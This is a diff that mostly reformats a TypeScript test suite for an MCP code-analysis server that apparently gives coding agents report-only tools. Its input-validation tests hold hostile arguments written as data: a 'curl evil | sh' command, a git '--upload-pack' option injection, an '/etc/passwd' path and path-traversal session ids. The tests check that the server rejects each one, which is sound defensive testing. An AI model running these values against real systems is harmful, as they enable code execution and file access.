@@ -14,7 +14,15 @@ import { cliArgv } from '../helpers/cli.js';
 const projectRoot = fileURLToPath(new URL('../..', import.meta.url));
 const RANGE = { base: 'HEAD~1', head: 'HEAD' };
 const TASK = 'round order totals to whole cents';
-const ANALYSIS_TOOLS = ['analyze_pr', 'impact_map', 'audit_tests', 'suggest_edge_cases', 'tool_recommendations', 'pattern_search', 'redteam_report'];
+const ANALYSIS_TOOLS = [
+  'analyze_pr',
+  'impact_map',
+  'audit_tests',
+  'suggest_edge_cases',
+  'tool_recommendations',
+  'pattern_search',
+  'redteam_report',
+];
 const ALL_TOOLS = [...ANALYSIS_TOOLS, 'agent_task_bundle', 'agent_preflight', 'agent_session', 'task_context'];
 
 function createShopRepo(): TestRepo {
@@ -23,16 +31,25 @@ function createShopRepo(): TestRepo {
     'src/lib/money.ts': 'export function toCents(amount: number): number {\n  return Math.round(amount * 100);\n}\n',
     'src/routes/orders.ts':
       "import express from 'express';\nimport { toCents } from '../lib/money.js';\nexport const router = express.Router();\nrouter.get('/orders/:id/total', (req, res) => {\n  res.json({ cents: toCents(Number(req.params.id)) });\n});\n",
-    'src/lib/money.test.ts': "import { test } from 'node:test';\nimport assert from 'node:assert/strict';\nimport { toCents } from './money.js';\ntest('toCents', () => { assert.equal(toCents(1.5), 150); });\n",
+    'src/lib/money.test.ts':
+      "import { test } from 'node:test';\nimport assert from 'node:assert/strict';\nimport { toCents } from './money.js';\ntest('toCents', () => { assert.equal(toCents(1.5), 150); });\n",
     '.checker/config.yml': 'checks:\n  unit:\n    command: node --test\n',
   });
-  repo.write({ 'src/lib/money.ts': 'export function toCents(amount: number): number {\n  const cents = amount * 100;\n  return Math.round(cents);\n}\n' });
+  repo.write({
+    'src/lib/money.ts':
+      'export function toCents(amount: number): number {\n  const cents = amount * 100;\n  return Math.round(cents);\n}\n',
+  });
   repo.commit('round once');
   return repo;
 }
 
 async function connect(dir: string): Promise<Client> {
-  const transport = new StdioClientTransport({ command: process.execPath, args: [...cliArgv(), 'mcp', '--cwd', dir], cwd: projectRoot, stderr: 'pipe' });
+  const transport = new StdioClientTransport({
+    command: process.execPath,
+    args: [...cliArgv(), 'mcp', '--cwd', dir],
+    cwd: projectRoot,
+    stderr: 'pipe',
+  });
   const client = new Client({ name: 'checker-test', version: '0.0.0' });
   await client.connect(transport);
   return client;
@@ -73,14 +90,21 @@ describe('checker mcp over stdio (SDK Client)', () => {
 
   it('lists the eleven report-only tools with title, description, annotations and strict schemas', async () => {
     const { tools } = await client.listTools();
-    assert.deepEqual(tools.map((tool) => tool.name), ALL_TOOLS);
+    assert.deepEqual(
+      tools.map((tool) => tool.name),
+      ALL_TOOLS,
+    );
     const expectedFields: Record<string, string[]> = {
       agent_task_bundle: ['profile', 'task', 'format', 'base', 'head'],
       agent_preflight: ['task', 'requirements', 'format'],
       agent_session: ['operation', 'sessionId', 'task', 'requirements', 'checkpointKind', 'summary', 'maxNodes', 'format'],
       task_context: ['task', 'requirements', 'maxNodes', 'format'],
     };
-    const expectedRequired: Record<string, string[] | undefined> = { agent_preflight: ['task'], agent_session: ['operation', 'sessionId'], task_context: ['task'] };
+    const expectedRequired: Record<string, string[] | undefined> = {
+      agent_preflight: ['task'],
+      agent_session: ['operation', 'sessionId'],
+      task_context: ['task'],
+    };
     const writers = new Set(['agent_session', 'task_context']);
     for (const tool of tools) {
       const texts = Object.entries(TOOL_TEXTS).find(([name]) => name === tool.name)?.[1];
@@ -99,7 +123,10 @@ describe('checker mcp over stdio (SDK Client)', () => {
     const session = tools.find((tool) => tool.name === 'agent_session');
     const operation = session?.inputSchema.properties?.operation as { type: string; enum: string[] };
     assert.deepEqual([operation.type, operation.enum], ['string', ['start', 'context', 'checkpoint', 'finish']]);
-    assert.deepEqual((session?.inputSchema.properties?.sessionId as { pattern: string }).pattern, '^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$');
+    assert.deepEqual(
+      (session?.inputSchema.properties?.sessionId as { pattern: string } | undefined)?.pattern,
+      '^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$',
+    );
   });
 
   it('answers every analysis tool in both formats; the JSON text is structuredContent', async () => {
@@ -137,24 +164,41 @@ describe('checker mcp over stdio (SDK Client)', () => {
   it('reports the change: changed file, impacted route, proof and the configured check not run', async () => {
     const impact = assertReport(await call(client, 'impact_map', { ...RANGE, format: 'json' }), 'impact-report');
     const changed = impact.changedFiles as { path: string; status: string }[];
-    assert.deepEqual(changed.map((file) => [file.path, file.status]), [['src/lib/money.ts', 'modified']]);
+    assert.deepEqual(
+      changed.map((file) => [file.path, file.status]),
+      [['src/lib/money.ts', 'modified']],
+    );
     const routes = impact.impactedRoutes as { method: string; path: string }[];
-    assert.deepEqual(routes.map((route) => `${route.method} ${route.path}`), ['GET /orders/:id/total']);
+    assert.deepEqual(
+      routes.map((route) => `${route.method} ${route.path}`),
+      ['GET /orders/:id/total'],
+    );
     const impacted = impact.impactedFiles as { path: string }[];
     assert.deepEqual(impacted.map((file) => file.path).sort(), ['src/lib/money.test.ts', 'src/routes/orders.ts']);
     const audit = assertReport(await call(client, 'audit_tests', { ...RANGE, format: 'json' }), 'audit-tests-report');
     const proof = audit.changedPathProof as { path: string; state: string; reachingTests: string[] }[];
-    assert.deepEqual(proof.map((entry) => [entry.path, entry.state, entry.reachingTests]), [['src/lib/money.ts', 'static-only', ['src/lib/money.test.ts']]]);
+    assert.deepEqual(
+      proof.map((entry) => [entry.path, entry.state, entry.reachingTests]),
+      [['src/lib/money.ts', 'static-only', ['src/lib/money.test.ts']]],
+    );
     const checks = (audit.recommendedChecks as { configuredChecks: unknown[] }).configuredChecks;
     assert.deepEqual(checks, [{ name: 'unit', willRun: false }]);
     const redteam = assertReport(await call(client, 'redteam_report', { ...RANGE, format: 'json' }), 'redteam-report');
-    assert.deepEqual((redteam.safety as { execution: unknown }).execution, { checksRan: false, investigationRan: false, modelCalled: false, network: false });
+    assert.deepEqual((redteam.safety as { execution: unknown }).execution, {
+      checksRan: false,
+      investigationRan: false,
+      modelCalled: false,
+      network: false,
+    });
   });
 
   it('builds the agent task bundle with the requested profile in both formats', async () => {
     const markdown = await call(client, 'agent_task_bundle', { ...RANGE, profile: 'claude-code' });
     const bundle = assertReport(markdown, 'agent-bundle');
-    assert.match(textOf(markdown), /^# Agent task bundle: HEAD~1\.\.HEAD\n\nProfile claude-code \(a Claude Code session\)\. 1 changed, 2 impacted files, 1 route;/);
+    assert.match(
+      textOf(markdown),
+      /^# Agent task bundle: HEAD~1\.\.HEAD\n\nProfile claude-code \(a Claude Code session\)\. 1 changed, 2 impacted files, 1 route;/,
+    );
     assert.equal(bundle.profile, 'claude-code');
     const json = await call(client, 'agent_task_bundle', { ...RANGE, format: 'json' });
     const generic = assertReport(json, 'agent-bundle');
@@ -172,7 +216,10 @@ describe('checker mcp over stdio (SDK Client)', () => {
     assert.match(textOf(markdown), /From `mcp:requirements` \(sha256 [0-9a-f]{12}\)/);
     const evidence = report.requirementEvidence as { source: { path: string }; acceptanceCriteria: { id: string }[] };
     assert.equal(evidence.source.path, 'mcp:requirements');
-    assert.deepEqual(evidence.acceptanceCriteria.map((criterion) => criterion.id), ['AC-1']);
+    assert.deepEqual(
+      evidence.acceptanceCriteria.map((criterion) => criterion.id),
+      ['AC-1'],
+    );
     const candidates = (report.repositoryEvidence as { candidateFiles: { path: string }[] }).candidateFiles.map((file) => file.path);
     assert.deepEqual(candidates, ['src/routes/orders.ts', 'src/lib/money.ts', 'src/lib/money.test.ts']);
     const json = await call(client, 'agent_preflight', { task: TASK, format: 'json' });
@@ -191,14 +238,28 @@ describe('checker mcp over stdio (SDK Client)', () => {
   it('runs an agent session start → context → checkpoint → finish and never overwrites it', async () => {
     const start = await call(client, 'agent_session', { operation: 'start', sessionId: 'fix-rounding', task: TASK });
     const started = assertReport(start, 'session-result');
-    assert.deepEqual([started.operation, started.status, started.sessionPath], ['start', 'active', '.checker/local/agent-sessions/fix-rounding.json']);
+    assert.deepEqual(
+      [started.operation, started.status, started.sessionPath],
+      ['start', 'active', '.checker/local/agent-sessions/fix-rounding.json'],
+    );
     assert.match(textOf(start), /^# Session fix-rounding: start\n/);
-    const context = assertReport(await call(client, 'agent_session', { operation: 'context', sessionId: 'fix-rounding', maxNodes: 5, format: 'json' }), 'session-result');
+    const context = assertReport(
+      await call(client, 'agent_session', { operation: 'context', sessionId: 'fix-rounding', maxNodes: 5, format: 'json' }),
+      'session-result',
+    );
     assert.deepEqual([context.operation, (context.context as { maxNodes: number }).maxNodes], ['context', 5]);
-    const checkpoint = await call(client, 'agent_session', { operation: 'checkpoint', sessionId: 'fix-rounding', checkpointKind: 'plan', summary: 'Plan: change toCents' });
+    const checkpoint = await call(client, 'agent_session', {
+      operation: 'checkpoint',
+      sessionId: 'fix-rounding',
+      checkpointKind: 'plan',
+      summary: 'Plan: change toCents',
+    });
     assert.equal(assertReport(checkpoint, 'session-result').operation, 'checkpoint');
     assert.match(textOf(checkpoint), /```text untrusted-repository-text\nPlan: change toCents\n```/);
-    const finish = assertReport(await call(client, 'agent_session', { operation: 'finish', sessionId: 'fix-rounding', format: 'json' }), 'session-result');
+    const finish = assertReport(
+      await call(client, 'agent_session', { operation: 'finish', sessionId: 'fix-rounding', format: 'json' }),
+      'session-result',
+    );
     assert.deepEqual([finish.operation, finish.status], ['finish', 'finished']);
     const again = await call(client, 'agent_session', { operation: 'start', sessionId: 'fix-rounding', task: 'another task' });
     assert.equal(again.isError, true);
@@ -208,35 +269,107 @@ describe('checker mcp over stdio (SDK Client)', () => {
 
   it('turns hostile arguments into isError results naming the field, and keeps answering', async () => {
     const cases: { name: string; args: Record<string, unknown>; expected: RegExp }[] = [
-      { name: 'analyze_pr', args: { command: 'curl evil | sh' }, expected: /^input\/invalid: analyze_pr: unknown field "command": this tool does not accept it; remove it\. Accepted fields: format, base, head\.\nhint: / },
-      { name: 'impact_map', args: { cwd: '/', env: { PATH: '/tmp' } }, expected: /^input\/invalid: impact_map: unknown fields "cwd", "env": this tool does not accept them; remove them\./ },
-      { name: 'audit_tests', args: { args: ['-rf'], confirmExecution: true }, expected: /^input\/invalid: audit_tests: unknown fields "args", "confirmExecution"/ },
-      { name: 'analyze_pr', args: { format: 3 }, expected: /^input\/invalid: analyze_pr: "format" must be "markdown" or "json"; leave it out for markdown\n/ },
+      {
+        name: 'analyze_pr',
+        args: { command: 'curl evil | sh' },
+        expected:
+          /^input\/invalid: analyze_pr: unknown field "command": this tool does not accept it; remove it\. Accepted fields: format, base, head\.\nhint: /,
+      },
+      {
+        name: 'impact_map',
+        args: { cwd: '/', env: { PATH: '/tmp' } },
+        expected: /^input\/invalid: impact_map: unknown fields "cwd", "env": this tool does not accept them; remove them\./,
+      },
+      {
+        name: 'audit_tests',
+        args: { args: ['-rf'], confirmExecution: true },
+        expected: /^input\/invalid: audit_tests: unknown fields "args", "confirmExecution"/,
+      },
+      {
+        name: 'analyze_pr',
+        args: { format: 3 },
+        expected: /^input\/invalid: analyze_pr: "format" must be "markdown" or "json"; leave it out for markdown\n/,
+      },
       { name: 'analyze_pr', args: { format: 'html' }, expected: /^input\/invalid: analyze_pr: "format" must be "markdown" or "json"/ },
-      { name: 'redteam_report', args: { base: '--upload-pack=touch /tmp/x' }, expected: /^input\/invalid: redteam_report: "base" must be a git revision name/ },
+      {
+        name: 'redteam_report',
+        args: { base: '--upload-pack=touch /tmp/x' },
+        expected: /^input\/invalid: redteam_report: "base" must be a git revision name/,
+      },
       { name: 'redteam_report', args: { head: 42 }, expected: /^input\/invalid: redteam_report: "head" must be a git revision string/ },
-      { name: 'analyze_pr', args: { base: 'no-such-branch' }, expected: /^git\/ref-not-found: revision no-such-branch was not found in the repository\nhint: / },
-      { name: 'agent_task_bundle', args: { profile: 'copilot' }, expected: /^input\/invalid: agent_task_bundle: "profile" must be one of generic, codex, claude-code, cursor, pi, opencode, desktop; leave it out for generic\n/ },
-      { name: 'agent_preflight', args: { task: 'x'.repeat(1024 * 1024) }, expected: /^input\/invalid: agent_preflight: "task" is longer than 4000 characters; summarise the task/ },
-      { name: 'agent_preflight', args: {}, expected: /^input\/invalid: agent_preflight: "task" is required: it must be a string/ },
-      { name: 'agent_preflight', args: { task: '   ' }, expected: /^input\/invalid: agent_preflight: "task" must not be empty/ },
-      { name: 'agent_preflight', args: { task: TASK, requirements: { acceptanceCriteria: [{ id: 'AC 1', text: 't', requiredProof: [] }] } }, expected: /^input\/invalid: agent_preflight: "requirements\.acceptanceCriteria\[0\]\.id" must be a plain id/ },
-      { name: 'agent_preflight', args: { task: TASK, requirements: { path: '/etc/passwd' } }, expected: /^input\/invalid: agent_preflight: unknown field "path": "requirements" does not accept it; remove it\./ },
+      {
+        name: 'analyze_pr',
+        args: { base: 'no-such-branch' },
+        expected: /^git\/ref-not-found: revision no-such-branch was not found in the repository\nhint: /,
+      },
+      {
+        name: 'agent_task_bundle',
+        args: { profile: 'copilot' },
+        expected:
+          /^input\/invalid: agent_task_bundle: "profile" must be one of generic, codex, claude-code, cursor, pi, opencode, desktop; leave it out for generic\n/,
+      },
       {
         name: 'agent_preflight',
-        args: { task: TASK, requirements: { acceptanceCriteria: [{ id: 'A', text: 'one', requiredProof: [] }, { id: 'A', text: 'two', requiredProof: [] }] } },
-        expected: /^requirements\/invalid: requirements\.acceptanceCriteria\[1\]\.id "A" is used twice\nhint: Give every acceptance criterion its own id\.$/,
+        args: { task: 'x'.repeat(1024 * 1024) },
+        expected: /^input\/invalid: agent_preflight: "task" is longer than 4000 characters; summarise the task/,
+      },
+      { name: 'agent_preflight', args: {}, expected: /^input\/invalid: agent_preflight: "task" is required: it must be a string/ },
+      { name: 'agent_preflight', args: { task: '   ' }, expected: /^input\/invalid: agent_preflight: "task" must not be empty/ },
+      {
+        name: 'agent_preflight',
+        args: { task: TASK, requirements: { acceptanceCriteria: [{ id: 'AC 1', text: 't', requiredProof: [] }] } },
+        expected: /^input\/invalid: agent_preflight: "requirements\.acceptanceCriteria\[0\]\.id" must be a plain id/,
+      },
+      {
+        name: 'agent_preflight',
+        args: { task: TASK, requirements: { path: '/etc/passwd' } },
+        expected: /^input\/invalid: agent_preflight: unknown field "path": "requirements" does not accept it; remove it\./,
+      },
+      {
+        name: 'agent_preflight',
+        args: {
+          task: TASK,
+          requirements: {
+            acceptanceCriteria: [
+              { id: 'A', text: 'one', requiredProof: [] },
+              { id: 'A', text: 'two', requiredProof: [] },
+            ],
+          },
+        },
+        expected:
+          /^requirements\/invalid: requirements\.acceptanceCriteria\[1\]\.id "A" is used twice\nhint: Give every acceptance criterion its own id\.$/,
       },
       { name: 'task_context', args: { task: TASK, maxNodes: 0 }, expected: /^input\/invalid: task_context: "maxNodes" must be at least 1/ },
-      { name: 'task_context', args: { task: TASK, maxNodes: 2.5 }, expected: /^input\/invalid: task_context: "maxNodes" must be a whole number from 1 to 1000/ },
-      { name: 'task_context', args: { task: TASK, maxNodes: '10' }, expected: /^input\/invalid: task_context: "maxNodes" must be a whole number from 1 to 1000/ },
-      { name: 'agent_session', args: { operation: 'start', sessionId: '../x', task: TASK }, expected: /^input\/invalid: agent_session: "sessionId" must be 1-64 characters of letters, digits/ },
-      { name: 'agent_session', args: { operation: 'delete', sessionId: 'x' }, expected: /^input\/invalid: agent_session: "operation" must be one of start, context, checkpoint, finish/ },
-      { name: 'agent_session', args: { operation: 'start', sessionId: 'new-one' }, expected: /^input\/invalid: agent_session: "task" is required for operation "start"/ },
+      {
+        name: 'task_context',
+        args: { task: TASK, maxNodes: 2.5 },
+        expected: /^input\/invalid: task_context: "maxNodes" must be a whole number from 1 to 1000/,
+      },
+      {
+        name: 'task_context',
+        args: { task: TASK, maxNodes: '10' },
+        expected: /^input\/invalid: task_context: "maxNodes" must be a whole number from 1 to 1000/,
+      },
+      {
+        name: 'agent_session',
+        args: { operation: 'start', sessionId: '../x', task: TASK },
+        expected: /^input\/invalid: agent_session: "sessionId" must be 1-64 characters of letters, digits/,
+      },
+      {
+        name: 'agent_session',
+        args: { operation: 'delete', sessionId: 'x' },
+        expected: /^input\/invalid: agent_session: "operation" must be one of start, context, checkpoint, finish/,
+      },
+      {
+        name: 'agent_session',
+        args: { operation: 'start', sessionId: 'new-one' },
+        expected: /^input\/invalid: agent_session: "task" is required for operation "start"/,
+      },
       {
         name: 'agent_session',
         args: { operation: 'checkpoint', sessionId: 'fix-rounding', task: TASK },
-        expected: /^input\/invalid: agent_session: "checkpointKind" is required for operation "checkpoint"; "summary" is required for operation "checkpoint"; "task" does not apply to operation "checkpoint" \(only to start\); remove it\n/,
+        expected:
+          /^input\/invalid: agent_session: "checkpointKind" is required for operation "checkpoint"; "summary" is required for operation "checkpoint"; "task" does not apply to operation "checkpoint" \(only to start\); remove it\n/,
       },
       { name: 'agent_session', args: { operation: 'context', sessionId: 'never-started' }, expected: /^session\/not-found: / },
       { name: 'no_such_tool', args: {}, expected: /^tool\/unknown: there is no tool "no_such_tool"\nhint: Use one of: analyze_pr, / },
@@ -254,11 +387,31 @@ describe('checker mcp over stdio (SDK Client)', () => {
   });
 
   it('refuses every hostile session id (security H1) before touching the disk', async () => {
-    const ids = ['../../../../tmp/pwn', '..\\..\\x', '/abs', 'a/b', '.', '..', '', 'CON', 'nul.json', 'x\u0000y', 'a'.repeat(10_000), 'ses sion', 'ＦＵＬＬＷＩＤＴＨ', '\u202Eevil', 'trailing.'];
+    const ids = [
+      '../../../../tmp/pwn',
+      '..\\..\\x',
+      '/abs',
+      'a/b',
+      '.',
+      '..',
+      '',
+      'CON',
+      'nul.json',
+      'x\u0000y',
+      'a'.repeat(10_000),
+      'ses sion',
+      'ＦＵＬＬＷＩＤＴＨ',
+      '\u202Eevil',
+      'trailing.',
+    ];
     for (const sessionId of ids) {
       const result = await call(client, 'agent_session', { operation: 'start', sessionId, task: TASK });
       assert.equal(result.isError, true, JSON.stringify(sessionId.slice(0, 20)));
-      assert.match(textOf(result), /^(input\/invalid: agent_session: "sessionId" must be 1-64 characters|session\/invalid-id: session id )/, textOf(result));
+      assert.match(
+        textOf(result),
+        /^(input\/invalid: agent_session: "sessionId" must be 1-64 characters|session\/invalid-id: session id )/,
+        textOf(result),
+      );
       assert.equal(textOf(result).includes('\u202E'), false);
       assert.equal(textOf(result).includes('\u0000'), false);
     }
